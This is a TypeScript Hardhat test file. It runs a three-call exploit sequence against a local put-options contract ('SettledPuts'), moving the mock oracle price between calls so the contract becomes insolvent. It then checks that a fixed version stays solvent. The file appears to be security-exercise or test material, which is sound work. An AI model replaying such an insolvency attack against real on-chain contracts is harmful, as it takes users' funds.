import { expect } from "chai";
import { network } from "hardhat";
import { deploy, type Name } from "./scenario.js";

async function attack(name: Name): Promise<boolean> {
  const { viem } = await network.create();
  const { usdc, feed, puts } = await deploy(viem, name);
  const clients = await viem.getWalletClients();
  const account = clients[5]!.account;
  const time = await viem.getTestClient();
  await usdc.write.mint([account.address, 1_000_000n * 10n ** 6n]);
  await usdc.write.approve([puts.address, 2n ** 256n - 1n], { account });
  expect(await puts.read.invariant_solvent()).to.equal(true);

  const amount = 300n * 10n ** 18n;
  await puts.write.write([0n, amount], { account });
  await time.increaseTime({ seconds: 2 * 86_400 });
  await feed.write.setAnswer([2_150n * 10n ** 8n]);
  await puts.write.redeemLong([0n, amount], { account });
  await time.increaseTime({ seconds: 86_400 });
  await feed.write.setAnswer([2_420n * 10n ** 8n]);
  await puts.write.redeemShort([0n, amount], { account });
  return puts.read.invariant_solvent();
}

describe("SettledPuts", () => {
  it("is broken by three calls", async () => expect(await attack("SettledPuts")).to.equal(false));
  it("is not broken once fixed", async () => expect(await attack("SettledPutsFixed")).to.equal(true));
});
